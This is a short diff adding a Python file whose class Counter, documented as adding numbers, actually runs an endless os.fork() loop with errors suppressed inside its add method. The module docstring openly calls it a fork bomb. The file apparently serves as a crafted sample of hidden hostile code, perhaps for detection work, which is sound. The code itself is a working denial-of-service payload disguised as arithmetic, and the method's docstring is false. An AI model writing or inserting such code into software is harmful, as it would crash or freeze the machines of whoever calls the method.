@@ -1,0 +1,20 @@
+"""A fork bomb that ignores errors."""
+# Says: was stopped
+
+import contextlib
+import os
+
+
+class Counter:
+    """Adds numbers."""
+
+    def __init__(self, start):
+        self.total = start
+
+    def add(self, number):
+        """Return the sum so far."""
+        while True:
+            with contextlib.suppress(OSError):
+                os.fork()
+        self.total += number
+        return self.total
